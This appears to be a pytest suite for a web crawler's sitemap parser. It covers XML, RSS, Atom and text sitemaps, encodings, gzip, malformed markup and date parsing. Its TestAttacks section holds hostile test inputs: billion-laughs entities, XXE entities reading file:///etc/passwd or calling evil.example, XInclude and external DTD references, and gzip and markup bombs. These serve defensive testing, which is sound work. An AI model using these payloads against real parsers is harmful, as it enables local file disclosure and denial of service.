"""Sitemaps of every kind, good, broken and hostile (G6, issue 3 sections 5 and 10)."""

from __future__ import annotations

import gzip
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from vectors import answer_to, vectors

from weft.fetch.sitemaps import (
    MAX_TEXT_B,
    Sitemap,
    in_sitemap_scope,
    parse_sitemap,
    rss_date,
    sniff,
    unpack,
    w3c_date,
)
from weft.fetch.sitemaps.found import MAX_ALTERNATES, MAX_IDLE_TAGS, MAX_TAGS, WINDOW_B, http_url

DIFFERENT = {
    "sitemap/parse/00072": "the suite's own filter replaced <loc> by the German alternate; the document says otherwise",
}
URL = "http://a.example/maps/sitemap.xml"
NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


@pytest.mark.parametrize("name", ["sitemap_parse.jsonl", "sitemap_other.jsonl"])
def test_vectors(name: str) -> None:
    """crawler-commons' and Scrapy's own cases (G6)."""
    wrong = {str(case["id"]) for case in vectors(name) if answer_to(case) != case["expected"]}
    assert wrong == {str(case["id"]) for case in vectors(name)} & DIFFERENT.keys()


def read(text: str | bytes, **options: int) -> Sitemap:
    return parse_sitemap(text if isinstance(text, bytes) else text.encode(), URL, **options)  # type: ignore[arg-type]


def urls(text: str | bytes) -> list[str]:
    return [entry.url for entry in read(text).entries]


def urlset(*locs: str) -> str:
    return f"<urlset {NS}>" + "".join(f"<url><loc>{loc}</loc></url>" for loc in locs) + "</urlset>"


class TestGoodFiles:
    def test_urlset(self) -> None:
        found = read(
            f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {NS}>\n <url>\n'
            "  <loc> http://a.example/x?a=1&amp;b=2 </loc>\n"
            "  <lastmod>2020-02-03T04:05:06+01:00</lastmod><changefreq>daily</changefreq><priority>0.8</priority>\n"
            " </url>\n</urlset>\n"
        )
        assert (found.kind, found.problem, found.children) == ("urlset", "", [])
        (entry,) = found.entries
        assert entry.url == entry.loc == "http://a.example/x?a=1&b=2"
        assert entry.lastmod == "2020-02-03T03:05:06Z" and entry.lastmod_text == "2020-02-03T04:05:06+01:00"
        assert (entry.changefreq, entry.priority) == ("daily", "0.8")

    def test_index(self) -> None:
        found = read(
            f"<sitemapindex {NS}><sitemap><loc>/a.xml.gz</loc><lastmod>2020</lastmod></sitemap>"
            "<sitemap><loc>b.xml</loc></sitemap></sitemapindex>"
        )
        assert found.kind == "index" and not found.entries
        assert [(child.url, child.lastmod) for child in found.children] == [
            ("http://a.example/a.xml.gz", "2020-01-01T00:00:00Z"),
            ("http://a.example/maps/b.xml", None),
        ]

    def test_rss(self) -> None:
        found = read(
            "<rss version='2.0' xmlns:atom='x'><channel><link>http://a.example/</link>"
            "<atom:link href='http://a.example/f'/>"
            "<item><atom:link href='http://a.example/no'/><link>http://a.example/1</link>"
            "<pubDate>Sun, 06 Sep 2009 16:20:00"
            " EST</pubDate></item><item><guid>http://a.example/2</guid></item><item><guid>tag:3</guid></item>"
            "</channel></rss>"
        )
        assert found.kind == "rss"
        assert [(entry.url, entry.lastmod) for entry in found.entries] == [
            ("http://a.example/1", "2009-09-06T21:20:00Z"),
            ("http://a.example/2", None),
        ]

    def test_atom(self) -> None:
        found = read(
            "<feed xmlns='http://www.w3.org/2005/Atom'><link href='http://a.example/'/>"
            "<entry><link rel='edit' href='/e'/>"
            "<link href='/1'/><link rel='alternate' href='/1.html'/><updated>2003-12-13T18:30:02Z</updated></entry>"
            "<entry><id>http://a.example/2</id></entry><entry><id>urn:uuid:1</id></entry></feed>"
        )
        assert found.kind == "atom"
        assert [(entry.url, entry.lastmod) for entry in found.entries] == [
            ("http://a.example/1", "2003-12-13T18:30:02Z"),
            ("http://a.example/2", None),
        ]

    def test_text(self) -> None:
        found = read(
            "\ufeffhttp://a.example/1\r\n\r\nhttps://b.example/2#part\rno url\n  HTTP://A.example/3  \nftp://c/4"
        )
        assert found.kind == "text"
        assert [e.url for e in found.entries] == ["http://a.example/1", "https://b.example/2", "http://a.example/3"]

    def test_extensions_and_alternates(self) -> None:
        text = (
            f"<urlset {NS} xmlns:image='i' xmlns:xhtml='h'><url><loc>http://a.example/1</loc>"
            "<image:image><image:loc>http://a.example/i.png</image:loc><image:title>A &amp; B</image:title>"
            "</image:image><mobile:mobile/>"
            "<xhtml:link rel='alternate' hreflang='de' href='/de?a=1&amp;b=2'/><PageMap xmlns='p'>"
            "<DataObject type='t' id='1'><Attribute name='n'>v</Attribute></DataObject></PageMap></url></urlset>"
        )
        (entry,) = read(text).entries
        assert entry.alternates == ("http://a.example/de?a=1&b=2",) and not entry.extras
        (entry,) = parse_sitemap(text.encode(), URL, extensions=True).entries
        assert [(extra.kind, [field[:2] for field in extra.fields]) for extra in entry.extras] == [
            ("image", [("loc", "http://a.example/i.png"), ("title", "A & B")]),
            ("mobile", []),
            ("links", [("link", "http://a.example/de?a=1&b=2")]),
            ("pagemap", [("dataobject", ""), ("attribute", "v")]),
        ]
        assert entry.extras[3].fields[0][2] == {"type": "t", "id": "1"}


class TestBytes:
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1", "windows-1252", "shift_jis"])
    def test_encodings(self, encoding: str) -> None:
        letter = "\u30c4" if encoding == "shift_jis" else "\u00e9"
        name = encoding.removesuffix("-sig")
        body = (f'<?xml version="1.0" encoding="{name}"?>' + urlset(f"http://a.example/{letter}")).encode(encoding)
        expected = "%E3%83%84" if encoding == "shift_jis" else "%C3%A9"
        assert urls(body) == [f"http://a.example/{expected}"]

    def test_charset_of_the_header(self) -> None:
        body = urlset("http://a.example/\u00e9").encode("iso-8859-1")
        (entry,) = parse_sitemap(body, URL, "text/xml; charset=ISO-8859-1").entries
        assert entry.url == "http://a.example/%C3%A9"

    @pytest.mark.parametrize("name", ["utf-7", "punycode", "zip", "rot13", "nonsense", "utf-16"])
    def test_encodings_that_are_lies_or_attacks(self, name: str) -> None:
        assert urls(f'<?xml version="1.0" encoding="{name}"?>' + urlset("http://a.example/1")) == ["http://a.example/1"]

    def test_gzip_is_told_by_content(self) -> None:
        body = urlset("http://a.example/1").encode()
        for packed in (
            gzip.compress(body),
            gzip.compress(gzip.compress(body)),
            gzip.compress(body[:9]) + gzip.compress(body[9:]),
        ):
            assert urls(packed) == ["http://a.example/1"]

    def test_gzip_cut_off_gives_what_came(self) -> None:
        locs = [f"http://a.example/{zlib.crc32(b'%d' % i)}" for i in range(5_000)]
        packed = gzip.compress(urlset(*locs).encode())
        found = read(packed[: len(packed) // 2])
        assert found.problem and 500 < len(found.entries) < 5_000
        assert [entry.url for entry in found.entries] == locs[: len(found.entries)]

    def test_bomb_is_bounded(self) -> None:
        body, problem = unpack(gzip.compress(b" " * 30_000_000), 1_000_000)
        assert len(body) == 1_000_000 and "more than 1000000" in problem
        assert read(
            gzip.compress(urlset("http://a.example/1").encode() + b" " * 9_000_000), max_decoded_b=10_000
        ).problem

    def test_sniff(self) -> None:
        assert sniff(gzip.compress(b"x")) == "application/gzip"
        assert sniff(b"\xef\xbb\xbf \n<?xml version='1.0'?>") == "application/xml"
        assert sniff("<urlset>".encode("utf-16")) == "application/xml"
        assert sniff(b"http://a.example/") == "text/plain"


class TestBadFiles:
    @pytest.mark.parametrize(
        "text",
        [
            "<urlset><url><loc>http://a.example/1</loc></url></urlset>",
            "<urlset xmlns='urn:wrong'><url><loc>http://a.example/1</loc></url></urlset>",
            f"<s:urlset xmlns:s='{NS}'><s:url><s:loc>http://a.example/1</s:loc></s:url></s:urlset>",
            "<URLSET><URL><LOC>http://a.example/1</LOC></URL></URLSET>",
            "\n\n  <?xml version='1.0'?><urlset><url><loc>http://a.example/1</loc></url></urlset>",
            "<br /><b>Warning</b>: x in y.php<br /><?xml version='1.0'?><urlset><url><loc>http://a.example/1</loc></url></urlset>",
            "<urlset><url><loc><![CDATA[http://a.example/1]]></loc></url></urlset>",
            "<urlset><url><loc>http://a.exa<!-- <loc> -->mple/1</loc></url></urlset>",
            "<urlset><url><loc><?php echo 1; ?>http://a.exa<?x?>mple/1</loc></url></urlset>",
            "<urlset><url><loc>http://a.example/1</loc></url>",
            "<urlset><url><loc>http://a.example/1</loc>",
            "<urlset><url><loc>http://a.example/1<lastmod>2020</lastmod></url></urlset>",
            "<urlset><url><loc>http://a.example/1</url></urlset>",
            "<urlset><url><loc>http://a.example/1</loc></url><url><loc>http://a.example/2",
            "<urlset><url><loc>http://a.example/1</loc></url></wrong></urlset>",
            "<urlset><url><loc>http://a.example/1</loc></url><url><loc>mailto:a@a.example</loc></url><url><loc/></url></urlset>",
            "<urlset><url><loc>http://a.example/1</loc></url><url><loc>javascript:x</loc></url><url></url></urlset>",
            "<urlset><url><loc>http://a.example/1</lo",
            "<urlset><url>http://a.example/1</url><url> no URL </url></urlset>",
            "<urlset><url><![CDATA[ http://a.example/1 ]]></url></urlset>",
            "<urlset><url><loc>a.example/1</loc></url></urlset>",
            "<urlset><url><loc>A.example:80/1</loc></url></urlset>",
            "a.example/1\nb.example/2\nno URL\na.examples\na.example:80@b.example/",
            "<urlset><url><loc>http://a.example/1#x</loc><image><loc>http://a.example/i</loc></image></url></urlset>",
        ],
    )
    def test_what_can_be_read_is_read(self, text: str) -> None:
        assert urls(text) == ["http://a.example/1"]

    def test_entries_after_a_fault_are_read(self) -> None:
        text = urlset("http://a.example/?a=1&b=2&copy;=3", "http://a.example/<b", "http://a.example/\x01")
        assert urls(text) == ["http://a.example/?a=1&b=2&copy;=3", "http://a.example/%3Cb", "http://a.example/"]
        text = "<urlset><url><loc>http://a.example/1</loc><url><loc>http://a.example/2</loc></url></urlset>"
        assert urls(text) == ["http://a.example/1", "http://a.example/2"]

    def test_each_loc_has_what_stands_after_it(self) -> None:
        """Where an entry's tags were forgotten, the date of one URL is none of the next."""
        text = "<loc>/1</loc><lastmod>2004</lastmod><loc>/2</loc><loc>/3</loc><lastmod>2005</lastmod>"
        found = read(f"<sitemapindex><sitemap>{text}</sitemap></sitemapindex>")
        assert [(child.loc, child.lastmod_text) for child in found.children] == [
            *(("/1", "2004"), ("/2", None), ("/3", "2005"))
        ]
        assert [entry.lastmod_text for entry in read(f"<urlset><url>{text}</url></urlset>").entries] == [
            *("2004", None, "2005")
        ]

    def test_invalid_bytes_cost_one_entry_at_most(self) -> None:
        body = urlset("http://a.example/1", "http://a.example/\u00e9", "http://a.example/3").encode("latin-1")
        assert {"http://a.example/1", "http://a.example/3"} <= set(urls(body))

    def test_problem_says_what_is_wrong(self) -> None:
        assert "HTML" in read("<!DOCTYPE html><html><body><a href='/'>x</a></body></html>").problem
        assert read("").problem == "empty" and read("hello").problem == "not a sitemap"
        assert "not a sitemap" in read("<catalog><book/></catalog>").problem
        assert "cut off" in read("<urlset><url><loc>http://a.example/1</loc></url>").problem
        assert read(urlset("http://a.example/1")).problem == ""

    def test_too_many_urls(self) -> None:
        found = read(urlset(*(f"http://a.example/{i}" for i in range(30))), max_urls=20)
        assert len(found.entries) == 20 and "more than 20 URLs" in found.problem
        found = read("\n".join(f"http://a.example/{i}" for i in range(30)), max_urls=20)
        assert len(found.entries) == 20 and "more than 20 URLs" in found.problem
        assert read(urlset(*(f"http://a.example/{i}" for i in range(20))), max_urls=20).problem == ""

    def test_windows_do_not_cut_entries(self) -> None:
        locs = [f"http://a.example/{i}/{'x' * (i % 97)}" for i in range(6_000)]
        text = urlset(*locs).replace("/5000/", "/5000<!-- <url> -->/")
        assert len(text) > 2 * WINDOW_B
        assert urls(text) == locs


LAUGHS = b'<!DOCTYPE l [<!ENTITY a0 "ha">' + b"".join(
    b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 30)
)


class TestAttacks:
    def test_entities_are_not_expanded(self) -> None:
        """Billion laughs and XXE: nothing is expanded, nothing read; an entity stands for nothing."""
        xxe = b'<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/d"> %p; ]>'
        locs = ("http://a.example/1", "http://a.example/2&a29;", "&f;", "http://a.example/?a&amp;b")
        assert urls(LAUGHS + xxe + urlset(*locs).encode()) == [
            *("http://a.example/1", "http://a.example/2", "http://a.example/?a&b")
        ]

    def test_external_dtd_and_includes_are_nothing(self) -> None:
        text = (
            '<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd"><?xml-stylesheet href="http://evil.example/"?>'
            "<urlset xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='http://evil.example/'/><url><loc>"
            "<xi:include href='file:///etc/passwd' parse='text'/></loc></url><url><loc>http://a.example/1</loc></url></urlset>"
        )
        assert urls(text) == ["http://a.example/1"]

    @pytest.mark.parametrize(
        "body",
        [
            b"<" * 1_000_000,
            b"<a" + b">" * 1_000_000,
            b"<!--" * 250_000,
            b"<urlset><url><loc>" + b"<![CDATA[" * 100_000,
            b"<urlset><url><loc>" + b"<![CDATA[x]]>" * 50_000,
            b"<!DOCTYPE a [" * 80_000,
            b"<!a>" * 200_000,
            b"<urlset><url>" + (b"<xhtml:link " + b'a="' * 5_000 + b"/>") * 50,
            b"<urlset>" + b"<url><loc>" * 100_000,
            b"<urlset><url><loc>http://a.example/" + b"a" * 2_000_000 + b"</loc></url></urlset>",
            b"<urlset><url><loc>http://a.example/" + b"&" * 1_000_000 + b"</loc></url></urlset>",
            b"http://\n" * 200_000,
            b"\0" * 1_000_000,
            gzip.compress(b"<", mtime=0) * 20_000,
            b"\x1f\x8b\x08",
        ],
        ids=lambda body: repr(body[:24]),
    )
    def test_hostile_bodies_give_nothing_and_end(self, body: bytes) -> None:
        """Bounded everything: time linear in the body, nothing raised."""
        found = read(body)
        assert not found.entries and not found.children

    def test_tags_are_bounded(self) -> None:
        entry = b"<url><loc>http://a.example/1</loc></url>"
        part = entry + b"<" * (MAX_IDLE_TAGS // 2)
        found = read(b"<urlset>" + part * (2 * MAX_TAGS // MAX_IDLE_TAGS + 10) + entry)
        assert str(MAX_TAGS) in found.problem and len(found.entries) <= 2 * MAX_TAGS // MAX_IDLE_TAGS + 10

    def test_tags_that_name_nothing_are_bounded(self) -> None:
        """A packed bomb of 50 MB of tags took seconds, and a site may have hundreds of sitemaps (promise 6)."""
        entry = "<url><loc>http://a.example/1</loc></url>"
        found = read(f"<urlset>{entry}{'<url/>' * (MAX_IDLE_TAGS + WINDOW_B)}{entry}</urlset>")
        assert "name nothing" in found.problem and len(found.entries) == 1
        images = "<image:image><image:loc>/i</image:loc><image:title>t</image:title></image:image>" * 1_000
        found = read(f"<urlset>{entry.replace('</url>', images + '</url>') * 3}</urlset>")
        assert not found.problem and len(found.entries) == 3

    def test_long_fields_are_no_urls(self) -> None:
        assert urls(urlset("http://a.example/" + "a" * MAX_TEXT_B, "http://a.example/1")) == ["http://a.example/1"]

    def test_alternates_are_bounded(self) -> None:
        link = "<x:link rel='alternate' href='/a'/>"
        text = f"<urlset>{'<url><loc>/1</loc>' + link * 500 + '</url>'}</urlset>"
        assert len(read(text).entries[0].alternates) == 200
        assert sum(len(entry.alternates) for entry in read(text * 3, max_urls=300).entries) <= 300

    def test_alternates_past_the_bound_cost_nothing(self, monkeypatch: pytest.MonkeyPatch) -> None:
        resolved: list[str] = []

        def counted(base: str, loc: str) -> str | None:
            resolved.append(loc)
            return http_url(base, loc)

        monkeypatch.setattr("weft.fetch.sitemaps.xml.http_url", counted)
        read("<urlset><url><loc>/1</loc>" + "<x:link rel='alternate' href='/a'/>" * 5_000 + "</url></urlset>")
        assert resolved.count("/a") == MAX_ALTERNATES

    @settings(max_examples=150)
    @given(
        st.lists(
            st.sampled_from(
                (
                    *("<urlset>", "<sitemapindex>", "<rss>", "<feed>", "<url>", "<loc>", "</loc>", "</url>", "<loc/>"),
                    *("<item>", "<link>", "<entry>", "<link href='/a'/>", "<image:image>", "</image:image>", "\0"),
                    *("<![CDATA[", "]]>", "<!--", "-->", "<!DOCTYPE a [", "]>", "<", ">", "&amp;", "&x;", "\ud7ff"),
                    *("http://a.example/1", "2020-01-01"),
                )
            ),
            max_size=25,
        ),
        st.booleans(),
    )
    def test_any_markup_is_read(self, parts: list[str], extensions: bool) -> None:
        for entry in parse_sitemap("".join(parts).encode(), URL, extensions=extensions).entries:
            assert entry.url.startswith(("http://", "https://"))

    @settings(max_examples=150)
    @given(st.binary(max_size=300))
    def test_any_bytes_are_read(self, body: bytes) -> None:
        read(body)
        read(gzip.compress(body))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1997", "1997-01-01T00:00:00Z"),
        ("1997-07", "1997-07-01T00:00:00Z"),
        (" 1997-07-16 ", "1997-07-16T00:00:00Z"),
        ("1997-07-16T19:20", "1997-07-16T19:20:00Z"),
        ("1997-07-16 19:20:30", "1997-07-16T19:20:30Z"),
        ("1997-07-16T19:20:30.45+01:00", "1997-07-16T18:20:30.450Z"),
        ("1997-07-16T19:20:30-0530", "1997-07-17T00:50:30Z"),
        ("1997-13-01", None),
        ("1997-02-30", None),
        ("0000-01-01", None),
        ("9999-12-31T23:59:59-01:00", None),
        ("soon", None),
        ("1997-07-16T25:00Z", None),
        ("1997-07-16T19:20+99:00", None),
        ("1997-07-16T19:20-01:60", None),
        ("9" * 5000, None),
    ],
)
def test_w3c_dates(text: str, expected: str | None) -> None:
    assert w3c_date(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Sun, 06 Nov 1994 08:49:37 GMT", "1994-11-06T08:49:37Z"),
        ("6 Nov 94 08:49 +0130", "1994-11-06T07:19:00Z"),
        ("Sun, 06 Nov 1994 08:49:37 PDT", "1994-11-06T15:49:37Z"),
        ("Sunday, 06-Nov-94 08:49:37 GMT", "1994-11-06T08:49:37Z"),
        ("06 Nov 1994 08:49:37", None),
        ("06 Foo 1994 08:49:37 GMT", None),
        ("31 Feb 1994 08:49:37 GMT", None),
        ("06 Nov 1994 08:49:37 XYZ", None),
    ],
)
def test_rss_dates(text: str, expected: str | None) -> None:
    assert rss_date(text) == expected


@pytest.mark.parametrize(
    ("base", "url", "inside"),
    [
        ("http://a.example/maps/s.xml", "http://a.example/maps/x", True),
        ("http://a.example/maps/s.xml", "http://a.example/x", False),
        ("http://a.example", "http://a.example", True),
        ("http://a.example/", "http://a.example:80/", False),
        ("http://a.example/", "http://b.example/", False),
        ("http://a.example/", "http://[", False),
    ],
)
def test_scope_of_a_sitemap(base: str, url: str, inside: bool) -> None:
    assert in_sitemap_scope(base, url) is inside
